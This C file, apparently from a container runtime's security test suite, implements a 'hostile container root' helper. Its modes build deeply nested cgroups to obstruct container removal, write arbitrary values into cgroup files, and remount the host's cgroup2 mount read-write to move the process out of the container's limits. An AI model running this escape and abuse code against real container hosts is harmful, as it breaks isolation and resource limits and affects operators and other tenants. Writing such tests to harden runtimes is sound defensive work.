/* cgabuse.c - run inside a container by the limits-attacks suite, as a hostile container's
 * root would act on its cgroup. Static: it runs in a busybox rootfs.
 *
 *   cgabuse deep N   in a cgroup namespace of its own (needs CAP_SYS_ADMIN), mounts cgroup2
 *                    (its root: the container's cgroup) and makes a chain of N nested
 *                    sub-cgroups, then sleeps: a tree the container's removal must take
 *                    whole. Prints "DEPTH n" (how many it made) once made.
 *   cgabuse write FILE VALUE   the same mount; writes VALUE into its cgroup's FILE.
 *   cgabuse escape   remounts the host's cgroup2 mount it sees (--net host binds the host's
 *                    /sys) read-write and moves itself into its cgroup's parent, out of the
 *                    container's limits. Prints "ESCAPED TO PATH" when its cgroup changed,
 *                    "HELD" otherwise.
 */
#include <dirent.h>
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

/* The v2 path of /proc/self/cgroup ("/user.slice/..."), "" when none. */
static void own_cgroup(char *buf, size_t len)
{
	char line[4096];
	FILE *f = fopen("/proc/self/cgroup", "r");

	buf[0] = '\0';
	while (f && fgets(line, sizeof(line), f)) {
		if (!strncmp(line, "0::", 3)) {
			line[strcspn(line, "\n")] = '\0';
			snprintf(buf, len, "%s", line + 3);
		}
	}
	if (f)
		fclose(f);
}

static int deep(int n)
{
	int made = 0;

	if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
		printf("unshare: %s\n", strerror(errno));
		return 1;
	}
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
	    (mkdir("/tmp/cgabuse", 0700) != 0 && errno != EEXIST) ||
	    mount("none", "/tmp/cgabuse", "cgroup2", 0, NULL) != 0 || chdir("/tmp/cgabuse") != 0) {
		printf("mount cgroup2: %s\n", strerror(errno));
		return 1;
	}
	for (; made < n; made++)
		if (mkdir("d", 0755) != 0 || chdir("d") != 0)
			break;
	printf("DEPTH %d\n", made);
	fflush(stdout);
	/* out of the tree, so that only the tree keeps the container's cgroup busy */
	if (chdir("/") != 0)
		return 1;
	pause();
	return 0;
}

/* Writes value into FILE of its own cgroup, seen through a cgroup2 mount of its own. */
static int own_file(const char *file, const char *value)
{
	char path[256];
	FILE *f;

	if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0 ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
	    (mkdir("/tmp/cgabuse", 0700) != 0 && errno != EEXIST) ||
	    mount("none", "/tmp/cgabuse", "cgroup2", 0, NULL) != 0) {
		printf("mount cgroup2: %s\n", strerror(errno));
		return 1;
	}
	snprintf(path, sizeof(path), "/tmp/cgabuse/%s", file);
	f = fopen(path, "w");
	if (!f || fputs(value, f) < 0 || fclose(f) != 0) {
		printf("write %s: %s\n", file, strerror(errno));
		return 1;
	}
	printf("WROTE %s\n", file);
	return 0;
}

/* Whether the cgroup.procs of dir lists pid. */
static int lists(const char *dir, int pid)
{
	char path[8192];
	FILE *f;
	int p, found = 0;

	snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
	f = fopen(path, "r");
	while (f && !found && fscanf(f, "%d", &p) == 1)
		found = p == pid;
	if (f)
		fclose(f);
	return found;
}

/* The cgroup under dir (depth first, at most depth levels) whose cgroup.procs lists pid, into
 * out: a container in a cgroup namespace of its own does not see its path in
 * /proc/self/cgroup, so it looks for itself in the host's tree. */
static int find_self(const char *dir, int pid, int depth, char *out, size_t len)
{
	DIR *d;
	struct dirent *e;
	int found = 0;

	if (lists(dir, pid)) {
		snprintf(out, len, "%s", dir);
		return 1;
	}
	if (depth == 0 || !(d = opendir(dir)))
		return 0;
	while (!found && (e = readdir(d))) {
		char sub[8192];

		if (e->d_type != DT_DIR || e->d_name[0] == '.')
			continue;
		snprintf(sub, sizeof(sub), "%s/%s", dir, e->d_name);
		found = find_self(sub, pid, depth - 1, out, len);
	}
	closedir(d);
	return found;
}

static int escape(void)
{
	const char *mnts[] = {"/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
	char own[8192], after[8192], before[4096], pid[32];
	FILE *f;

	own_cgroup(before, sizeof(before));
	snprintf(pid, sizeof(pid), "%d", (int)getpid());
	for (size_t i = 0; i < sizeof(mnts) / sizeof(mnts[0]); i++) {
		char *slash;

		mount(NULL, mnts[i], NULL, MS_REMOUNT | MS_BIND, NULL); /* read-write again */
		if (!find_self(mnts[i], (int)getpid(), 12, own, sizeof(own)))
			continue;
		printf("FOUND %s\n", own);
		slash = strrchr(own, '/');
		if (!slash || slash == own)
			continue;
		/* the parent's cgroup.procs: out of the container's cgroup */
		snprintf(slash, sizeof(own) - (size_t)(slash - own), "/cgroup.procs");
		f = fopen(own, "w");
		if (f) {
			fputs(pid, f);
			fclose(f);
		}
	}
	own_cgroup(after, sizeof(after));
	if (strcmp(before, after))
		printf("ESCAPED TO %s\n", after);
	else
		printf("HELD\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "deep"))
		return deep(atoi(argv[2]));
	if (argc == 4 && !strcmp(argv[1], "write"))
		return own_file(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "escape"))
		return escape();
	fprintf(stderr, "usage: cgabuse deep N | cgabuse escape\n");
	return 2;
}
